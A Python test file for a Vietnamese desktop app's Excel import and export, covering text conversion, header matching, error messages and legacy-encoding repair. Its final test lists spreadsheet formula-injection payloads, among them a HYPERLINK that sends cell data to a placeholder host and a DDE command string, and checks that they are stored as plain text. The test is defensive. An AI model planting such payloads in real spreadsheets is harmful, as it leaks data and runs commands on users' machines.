"""Excel reading and writing: text kept as text, clear messages for files that do not fit."""

from __future__ import annotations

import openpyxl
import pytest

from thidua_desktop.domain import model as m
from thidua_desktop.domain.errors import ValidationError
from thidua_desktop.services.excel import Column, cell_text, map_columns, read_rows, write_rows
from thidua_desktop.services.unit_import import UNIT_COLUMNS, export_units


def test_numbers_come_back_as_the_text_the_user_typed(tmp_path):
    book = openpyxl.Workbook()
    book.active.append(["Mã", "Điện thoại", "Số"])
    book.active.append([12, "0912345678", 1.5])
    book.save(tmp_path / "a.xlsx")
    assert read_rows(tmp_path / "a.xlsx") == [
        ["Mã", "Điện thoại", "Số"],
        ["12", "0912345678", "1.5"],
    ]


def test_cell_text():
    assert cell_text(None) == ""
    assert cell_text(7.0) == "7"
    assert cell_text("Ho\u0300a Bi\u0300nh") == "Hòa Bình"  # NFD from a Mac becomes NFC


def test_write_then_read_round_trip_keeps_leading_zeros(tmp_path):
    path = write_rows(tmp_path / "out", ["Mã", "Tên"], [["007", "Sở Tư pháp & Cục THADS"]])
    assert path.suffix == ".xlsx"
    assert read_rows(path) == [["Mã", "Tên"], ["007", "Sở Tư pháp & Cục THADS"]]
    assert openpyxl.load_workbook(path).active["A2"].number_format == "@"


def test_headers_match_without_accents_or_case():
    cols = [
        Column("name", "Tên đơn vị", required=True),
        Column("province", "Tỉnh/thành phố", ("tinh",)),
    ]
    assert map_columns(["STT", "TEN DON VI", "Tỉnh"], cols) == {"name": 1, "province": 2}


def test_wrong_columns_name_the_expected_ones():
    with pytest.raises(ValidationError) as err:
        map_columns(["Họ tên", "Điện thoại"], UNIT_COLUMNS)
    text = str(err.value)
    assert "Thiếu cột «Tên đơn vị»" in text
    assert "«Thủ trưởng»" in text and "«Họ tên»" in text


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("x.xlsx", b"PK\x03\x04 broken zip", "Không đọc được tệp «x.xlsx»"),
        ("x.xls", b"\xd0\xcf\x11\xe0 not really ole", "Không đọc được tệp «x.xls»"),
        ("x.csv", b"a,b", "không phải bảng tính Excel"),
    ],
)
def test_unreadable_files_get_a_message(tmp_path, name, content, expected):
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(ValidationError, match=expected):
        read_rows(path)


def test_missing_file_gets_a_message(tmp_path):
    with pytest.raises(ValidationError, match="Không đọc được"):
        read_rows(tmp_path / "khong-co.xlsx")


def test_export_then_import_changes_nothing(services, small_cluster, tmp_path):
    cid = small_cluster["cluster"].id
    services.edits.change(m.Unit, small_cluster["units"][1].id, is_member=False, short_name="0123")
    path = export_units(tmp_path / "dv.xlsx", services.units.units(cid))
    plan = services.unit_import.read(path, cid)
    assert (plan.added, plan.changed, plan.rejected, plan.unchanged) == ([], [], [], 3)


def test_legacy_cells_in_a_sheet_are_listed_and_converted(services, small_cluster, tmp_path):
    book = openpyxl.Workbook()
    book.active.append(["Tên đơn vị", "Thủ trưởng"])
    book.active.append(["Së T\u00ad ph¸p tØnh Lµo Cai", "NguyÔn V¨n An"])
    book.save(tmp_path / "cu.xlsx")
    cid = small_cluster["cluster"].id
    plan = services.unit_import.read(tmp_path / "cu.xlsx", cid)
    assert [(c.field, c.after, c.encoding) for c in plan.legacy] == [
        ("name", "Sở Tư pháp tỉnh Lào Cai", "tcvn3"),
        ("head_name", "Nguyễn Văn An", "tcvn3"),
    ]
    assert plan.added[0].name == "Sở Tư pháp tỉnh Lào Cai"
    kept = services.unit_import.read(tmp_path / "cu.xlsx", cid, convert_legacy=False)
    assert kept.added[0].head_name == "NguyÔn V¨n An"
    outcome = services.unit_import.apply(plan)
    assert services.repo.get(m.Unit, outcome.created[0].id).head_name == "Nguyễn Văn An"
    services.unit_import.revert(outcome)
    assert services.repo.count(m.Unit) == 3


FORMULA_LIKE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def test_text_starting_like_a_formula_is_written_as_text(tmp_path):
    path = write_rows(
        tmp_path / "out.xlsx", ["Tên", FORMULA_LIKE[0]], [[t, t] for t in FORMULA_LIKE]
    )
    sheet = openpyxl.load_workbook(path).active
    cells = [sheet.cell(r, c) for r in range(2, len(FORMULA_LIKE) + 2) for c in (1, 2)]
    cells.append(sheet["B1"])
    assert all(cell.data_type == "s" for cell in cells), [c.data_type for c in cells]
    assert [sheet.cell(r, 1).value for r in range(2, len(FORMULA_LIKE) + 2)] == FORMULA_LIKE
    import zipfile

    xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml
